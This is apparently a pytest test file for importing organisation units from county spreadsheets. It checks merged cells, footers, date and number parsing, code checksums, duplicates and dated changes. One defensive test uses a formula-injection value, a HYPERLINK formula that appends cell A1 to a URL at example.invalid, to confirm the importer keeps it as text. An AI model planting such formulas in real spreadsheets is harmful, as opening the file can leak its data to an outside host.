"""Units from workbooks as counties keep them: each ugliness on its own, from the programs people use."""

from datetime import date, datetime

import openpyxl
import pytest

from jiceng.exchange.applying import apply
from jiceng.exchange.receiving import receive
from jiceng.organisations.models import Unit, UnitSpan
from jiceng.records.audit.verifying import verify
from jiceng.records.refusals import Refusal
from tests.exchange.conftest import AS_OF, CLERK, faults, uscc, verdicts
from tests.exchange.ledgers import HEADER, line
from tests.exchange.workbooks import saved, text, written, xls, xlsx


def unit(number: int) -> Unit:
    return Unit._base_manager.get(code=uscc(number))


def only() -> Unit:
    return Unit._base_manager.get()


@pytest.mark.parametrize("make", [xlsx, written, xls, text, lambda rows: text(rows, "gbk")])
def test_a_plain_ledger_of_every_program(imported, county, make):
    run = imported("units", make([HEADER, line(1), line(2, village="丙村", town="西乡")]))
    assert verdicts(run) == {"new": 2}
    first = unit(1)
    assert (first.name, first.kind, first.employees) == ("演示1号公司", "core:private_enterprise", 10)
    assert first.region == county["990121100201"]
    assert first.region_path == county["990121100201"].path
    assert (first.valid_from, first.initials) == (AS_OF, "ys1hgs")
    assert unit(2).region == county["990121200202"]


def test_row_and_open_span_agree_and_everything_is_audited(imported, county):
    imported("units", xlsx([HEADER, line(1), line(2)]))
    for made in Unit._base_manager.all():
        span = UnitSpan._base_manager.get(unit=made)
        assert (span.valid_from, span.valid_to) == (made.valid_from, None)
        assert (span.name, span.kind, span.region_id, span.employees) == (
            made.name,
            made.kind,
            made.region_id,
            made.employees,
        )
    assert verify().whole


def test_a_title_a_note_an_index_column_totals_and_a_foot(imported):
    rows = [
        ["演示县两新组织摸排台账"],
        ["填报单位：东镇", "", "", "2021年12月31日"],
        ["序号", *HEADER],
        [1, *line(1)],
        [2, *line(2)],
        ["小计", "", "", "", "", "", 20],
        ["", "", "合  计", "", "", "", 20],
        [],
        ["填表人：张三", "", "审核人：李四"],
    ]
    run = imported("units", xlsx(rows, merged=["A1:G1"]))
    assert verdicts(run) == {"new": 2}
    assert run.counts["skipped"] == {"total": 2, "blank": 1, "footer": 1}


def test_a_header_over_two_merged_rows(imported):
    rows = [
        ["基本情况", "", "", "属地", "", "从业人数"],
        ["社会信用代码", "企业名称", "企业类型", "镇街", "村居", ""],
        line(1),
    ]
    imported("units", xlsx(rows, merged=["A1:C1", "D1:E1", "F1:F2"]))
    assert only().employees == 10


def test_the_same_in_an_old_workbook(imported):
    rows = [
        ["基本情况", "", "", "属地", "", "从业人数"],
        ["社会信用代码", "企业名称", "企业类型", "镇街", "村居", ""],
        line(1),
    ]
    imported("units", xls(rows, merged=[(0, 0, 0, 2), (0, 0, 3, 4), (0, 1, 5, 5)]))
    assert only().employees == 10


def in_one_village(*lines, head=(), foot=()):
    """A ledger whose column of villages is merged over `lines`, below anything in `head`."""
    rows = [
        *head,
        HEADER,
        *([*one[:4], "" if at else one[4], *one[5:]] for at, one in enumerate(lines)),
        *foot,
    ]
    return rows, len(head) + 2, len(head) + 1 + len(lines)


@pytest.mark.parametrize("before", [0, 100])
def test_a_village_merged_over_its_units_is_the_village_of_each(imported, county, before):
    """Also far down the sheet; the line after the merged cells has its own."""
    others = [line(100 + n) for n in range(before)]
    rows, first, last = in_one_village(*(line(n, village="丙村", town="西乡") for n in (1, 2, 3)))
    rows[1:1] = others
    area = f"E{first + before}:E{last + before}"
    imported("units", xlsx([*rows, line(4)], merged=[area]))
    assert {unit(n).region for n in (1, 2, 3)} == {county["990121200202"]}
    assert unit(4).region == county["990121100201"]


def test_the_same_merged_in_an_old_workbook(imported, county):
    rows, first, last = in_one_village(line(1), line(2))
    imported("units", xls(rows, merged=[(first - 1, last - 1, 4, 4)]))
    assert {unit(n).region for n in (1, 2)} == {county["990121100201"]}


def test_totals_and_empty_lines_among_merged_cells_stay_what_they_are(imported):
    rows, first, last = in_one_village(line(1), line(2))
    rows[2:2] = [["小计", "", "", "", "", 10], []]
    run = imported("units", xlsx(rows, merged=[f"E{first}:E{last + 2}"]))
    assert verdicts(run) == {"new": 2}
    assert run.counts["skipped"] == {"total": 1, "blank": 1}


def test_a_number_merged_over_two_units_is_nobodys(staged):
    rows = [HEADER, line(1), [*line(2)[:5], ""]]
    run = staged("units", xlsx(rows, merged=["F2:F3"]))
    assert faults(run) == {3: ["职工人数：与上面的行合并成一格，看不出各是多少；取消合并，逐行填写"]}


def test_blank_columns_and_columns_nobody_asks_for(imported):
    rows = [
        ["", HEADER[0], "", *HEADER[1:], "党员数", "备注", "注册资本"],
        ["", uscc(1), "", *line(1)[1:], 3, "好", "100万"],
    ]
    imported("units", xlsx(rows))
    assert only().employees == 10


def test_one_sheet_per_town(imported, county):
    header = ["社会信用代码", "企业名称", "企业类型", "村（社区）"]
    east = [uscc(1), "东一公司", "私营企业", "红星村"]
    west = [uscc(2), "西一公司", "私营企业", "红星村"]
    run = imported("units", xlsx(东镇=[header, east], 西乡=[header, west], Sheet3=[]))
    assert unit(1).region == county["990121100202"]
    assert unit(2).region == county["990121200201"]
    assert [s["fills"] for s in run.sheets] == ["region_above", "region_above", ""]


def test_a_sheet_named_after_its_town_stands_for_the_region_itself(imported, county):
    header = ["社会信用代码", "企业名称", "企业类型"]
    imported("units", xlsx(南街道办事处=[header, [uscc(1), "南一公司", "私营企业"]]))
    assert only().region == county["990121001"]


def test_full_width_digits_and_letters(imported):
    wide = uscc(1).translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)})
    imported("units", xlsx([HEADER, line(1, code=wide, name="演示　Ａ１ 公司", n="３５")]))
    assert (only().code, only().name, only().employees) == (uscc(1), "演示 A1 公司", 35)


@pytest.mark.parametrize(
    ("cell", "count"), [("30", 30), ("约30人", 30), ("1,200", 1200), ("无", 0), ("", None)]
)
def test_numbers_as_text(imported, cell, count):
    imported("units", xlsx([HEADER, line(1, n=cell)]))
    assert only().employees == count


@pytest.mark.parametrize(
    ("cell", "meant"), [("是", True), ("√", True), ("规上", True), ("否", False), ("×", False), ("", None)]
)
def test_yes_and_no(imported, cell, meant):
    imported("units", xlsx([[*HEADER, "是否规上"], line(1, cell)]))
    assert only().above_scale is meant


@pytest.mark.parametrize(
    ("cell", "day"),
    [
        ("2018.3", date(2018, 3, 1)),
        (2018.3, date(2018, 3, 1)),
        ("2018年3月", date(2018, 3, 1)),
        ("20180315", date(2018, 3, 15)),
        (20180315, date(2018, 3, 15)),
        ("2018/3/15", date(2018, 3, 15)),
        (43174, date(2018, 3, 15)),
        (date(2018, 3, 15), date(2018, 3, 15)),
        (datetime.fromisoformat("2018-03-15T00:00"), date(2018, 3, 15)),
    ],
)
def test_dates_in_every_form(imported, cell, day):
    imported("units", xlsx([[*HEADER, "成立时间"], line(1, cell)]))
    assert only().valid_from == day
    assert UnitSpan._base_manager.get().valid_from == day


def test_a_code_that_excel_took_for_a_number_is_recovered(imported, county):
    header = ["单位名称", "单位类型", "区划代码"]
    imported("units", xlsx([header, ["甲公司", "私营企业", 990121100201]]))
    imported("units", text([header, ["乙公司", "私营企业", "9.90121100202E+11"]], "gbk"))
    assert [u.region.code for u in Unit._base_manager.order_by("id")] == ["990121100201", "990121100202"]


def test_a_code_that_excel_cut_short_says_what_to_do(staged):
    run = staged("units", text([["单位名称", "单位类型", "区划代码"], ["甲公司", "私营企业", "9.9012E+11"]]))
    assert "文本格式" in faults(run)[2][0]


def test_a_twelve_digit_code_padded_with_zeros_means_the_county(imported, county):
    imported("units", xlsx([["单位名称", "单位类型", "区划代码"], ["甲公司", "私营企业", "990121000000"]]))
    assert only().region == county["990121"]


@pytest.mark.parametrize(
    ("kind", "term"),
    [
        ("民营企业", "enterprise"),
        ("个体户", "individual_business"),
        ("社会组织", "social_org"),
        ("民非", "private_non_enterprise"),
    ],
)
def test_terms_in_the_words_of_counties(imported, kind, term):
    imported("units", xlsx([HEADER, line(1, kind=kind)]))
    assert only().kind == f"core:{term}"


# ------------------------------------------------------------------------------------------ bad input
def test_a_term_nobody_knows_lists_what_comes_near(staged):
    run = staged("units", xlsx([HEADER, line(1, kind="私赢企业")]))
    assert "私营企业" in faults(run)[2][0]


def test_a_code_that_fails_its_check(staged):
    wrong = uscc(1)[:17] + ("0" if uscc(1)[17] != "0" else "1")
    run = staged("units", xlsx([HEADER, line(1, code=wrong), line(2, code="12345")]))
    told = faults(run)
    assert "校验码不符" in told[2][0]
    assert "18位" in told[3][0]


def test_a_failing_code_passes_with_a_note_that_keeps_its_author(imported):
    wrong = uscc(1)[:17] + ("0" if uscc(1)[17] != "0" else "1")
    imported(
        "units", xlsx([[*HEADER, "代码说明"], line(1, "登记机关证明属实", code=wrong), line(2, "多余的话")])
    )
    made = Unit._base_manager.get(code=wrong)
    assert (made.code_note, made.code_noted_by) == ("登记机关证明属实", "办事员")
    assert unit(2).code_note == ""


def test_a_note_does_not_help_who_is_not_entitled(staged):
    wrong = uscc(1)[:17] + ("0" if uscc(1)[17] != "0" else "1")
    run = staged("units", xlsx([[*HEADER, "代码说明"], line(1, "属实", code=wrong)]), may_override=False)
    assert verdicts(run) == {"bad": 1}


def test_missing_and_doubled_columns_are_named(staged):
    with pytest.raises(Refusal, match="缺少列：单位类型、所在区域"):
        staged("units", xlsx([["企业名称", "职工数"], ["甲公司", 3]]))
    with pytest.raises(Refusal, match="重复的列：企业名称、单位全称"):
        staged(
            "units",
            xlsx([["企业名称", "单位全称", "企业类型", "村（社区）"], ["甲", "乙", "私营企业", "甲村"]]),
        )


def test_the_wrong_sheet_and_the_wrong_file(county):
    content = xlsx(台账=[HEADER, line(1)])
    with pytest.raises(Refusal, match="台账"):
        receive(by=CLERK, table="units", data=content, name="x.xlsx", sheet="别的")
    with pytest.raises(Refusal, match="没有可以导入的工作表"):
        receive(by=CLERK, table="units", data=xlsx([["这里只有一段话"]]), name="x.xlsx")
    with pytest.raises(Refusal, match="没有叫“房屋”的表"):
        receive(by=CLERK, table="房屋", data=content, name="x.xlsx")


def test_only_the_sheet_that_was_asked_for(imported):
    imported("units", xlsx(一=[HEADER, line(1)], 二=[HEADER, line(2)]), sheet="二")
    assert only().code == uscc(2)


def test_a_day_that_has_not_come(county):
    with pytest.raises(Refusal, match="还没有到"):
        receive(by=CLERK, table="units", data=xlsx([HEADER, line(1)]), name="x", as_of=date(2999, 1, 1))


def test_blank_required_cells(staged):
    run = staged("units", xlsx([HEADER, line(1, name="无", kind="")]))
    assert faults(run)[2] == ["单位名称：缺少单位名称", "单位类型：缺少单位类型"]


def test_the_same_unit_twice_in_one_file(staged):
    run = staged("units", xlsx([HEADER, line(1), line(2), line(1, name="另一个名字")]))
    assert "与第 2 行是同一条" in faults(run)[4][0]


def test_a_founding_after_the_day_the_file_speaks_of(staged):
    run = staged(
        "units",
        xlsx([[*HEADER, "成立时间", "注销时间"], line(1, "2022-05-01"), line(2, "2020-05-01", "2019-01-01")]),
    )
    told = faults(run)
    assert "晚于数据日期" in told[2][0]
    assert "应晚于起始日期" in told[3][0]


def test_a_formula_in_a_name_stays_text(imported):
    link = '=HYPERLINK("http://example.invalid/?"&A1,"name")'
    imported("units", written([HEADER, line(1, name=link)]))
    assert only().name == link


def test_texts_and_codes_longer_than_their_columns(staged):
    run = staged(
        "units", xlsx([[*HEADER, "负责人", "主管部门代码"], line(1, "长" * 61, "9" * 300, name="长" * 161)])
    )
    told = faults(run)[2]
    assert [text.partition("：")[0] for text in told] == ["单位名称", "负责人", "行业主管部门代码"]
    assert all("过长" in text for text in told)


def test_a_date_cell_where_a_count_belongs(staged):
    book = openpyxl.Workbook()
    for row in (HEADER, line(1, n=date(2021, 3, 5))):
        book.active.append(row)
    assert "不是" in faults(staged("units", saved(book)))[2][0]


# ------------------------------------------------------------------------------- again, and differently
def test_a_second_import_of_the_same_file_changes_nothing(imported, staged):
    content = xlsx([[*HEADER, "是否规上", "成立时间"], line(1, "是", "2018.3"), line(2, "", "")])
    imported("units", content)
    again = staged("units", content)
    assert verdicts(again) == {"unchanged": 2}
    before = verify().entries
    apply(again, by=CLERK)
    assert verify().entries == before


def test_changes_are_told_old_to_new_and_take_effect_on_their_day(imported, staged, county):
    imported("units", xlsx([HEADER, line(1)]))
    run = staged(
        "units", xlsx([HEADER, line(1, name="演示新名公司", village="红星村", n=25)]), as_of=date(2022, 6, 1)
    )
    assert verdicts(run) == {"changed": 1}
    told = {(d["label"], d["old"], d["new"]) for d in run.rows.get().changes()}
    assert told == {
        ("单位名称", "演示1号公司", "演示新名公司"),
        ("所在区域", "甲村", "红星村"),
        ("职工人数", "10", "25"),
    }
    apply(run, by=CLERK)
    assert (only().name, only().initials) == ("演示新名公司", "ysxmgs")
    assert only().region_path == county["990121100202"].path
    spans = list(
        UnitSpan._base_manager.order_by("valid_from").values_list("valid_from", "valid_to", "employees")
    )
    assert spans == [(AS_OF, date(2022, 6, 1), 10), (date(2022, 6, 1), None, 25)]


def test_a_blank_cell_leaves_what_is_stored_and_a_word_empties_it(imported):
    imported("units", xlsx([[*HEADER, "负责人"], line(1, "张三")]))
    imported("units", xlsx([[*HEADER, "负责人"], line(1, "", n="")]))
    assert (only().principal, only().employees) == ("张三", 10)
    imported("units", xlsx([[*HEADER, "负责人"], line(1, "（清空）", n="（清空）")]))
    assert (only().principal, only().employees) == ("", None)


def test_a_change_dated_before_a_later_one_is_refused(imported, staged):
    imported("units", xlsx([HEADER, line(1)]), as_of=date(2020, 1, 1))
    imported("units", xlsx([HEADER, line(1, n=20)]), as_of=date(2021, 1, 1))
    run = staged("units", xlsx([HEADER, line(1, n=15)]), as_of=date(2020, 6, 1))
    assert "2021-01-01 另有变更" in faults(run)[2][0]
    run = staged("units", xlsx([HEADER, line(1, n=15)]), as_of=date(2019, 6, 1))
    assert "才设立" in faults(run)[2][0]


def test_a_unit_without_a_code_is_found_by_name_and_region(imported):
    header = HEADER[1:]
    imported("units", xlsx([header, line(1)[1:]]))
    imported("units", xlsx([HEADER, line(1, n=12)]))
    assert (only().code, only().employees) == (uscc(1), 12)


def test_two_units_of_one_name_with_different_codes_stay_two(imported, staged):
    imported("units", xlsx([HEADER, line(1, name="宏达公司")]))
    run = staged("units", xlsx([HEADER, line(2, name="宏达有限公司")]))
    assert verdicts(run) == {"new": 1}
    assert [s["name"] for s in run.rows.get().alike()] == ["宏达公司"]
    apply(run, by=CLERK)
    assert Unit._base_manager.count() == 2


def test_near_names_within_one_file_are_told(staged):
    run = staged("units", xlsx([HEADER, line(1, name="宏达（食品）公司"), line(2, name="宏达食品有限公司")]))
    assert run.counts["suspects"] == 1
    assert run.rows.get(number=3).alike() == [{"row": 2, "name": "宏达食品有限公司"}]


def test_closing_a_unit(imported):
    imported("units", xlsx([HEADER, line(1)]), as_of=date(2020, 1, 1))
    imported("units", xlsx([[*HEADER, "注销日期"], line(1, "2021-06-30")]))
    assert only().valid_to == date(2021, 6, 30)
    assert UnitSpan._base_manager.get().valid_to == date(2021, 6, 30)


# ----------------------------------------------------------------------------------------- references
def test_the_authority_by_name_or_code_and_its_path(imported, bureau):
    header = [*HEADER, "行业主管部门", "行业主管部门代码"]
    imported("units", xlsx([header, line(1, "演示县市场监管局", ""), line(2, "", bureau.code)]))
    bureau.refresh_from_db()
    assert bureau.authority_path
    for number in (1, 2):
        assert (unit(number).authority, unit(number).authority_path) == (bureau, bureau.authority_path)
        assert UnitSpan._base_manager.get(unit=unit(number)).authority_path == bureau.authority_path


def test_a_place_that_stands_further_down_the_same_file(imported):
    header = [*HEADER, "所在园区"]
    imported("units", xlsx([header, line(1, "演示工业园"), line(2, "", name="演示工业园", kind="园区")]))
    assert unit(1).gathered_in == unit(2)


def test_rows_that_gather_each_other_in_a_circle(staged):
    run = staged(
        "units", xlsx([[*HEADER, "所在园区"], line(1, "乙园", name="甲园"), line(2, "甲园", name="乙园")])
    )
    assert "成了圈" in faults(run)[2][0]
    assert "成了圈" in faults(run)[3][0]


def test_a_body_nobody_knows(staged):
    run = staged("units", xlsx([[*HEADER, "行业主管部门"], line(1, "没有的局")]))
    assert "没有叫“没有的局”的单位" in faults(run)[2][0]
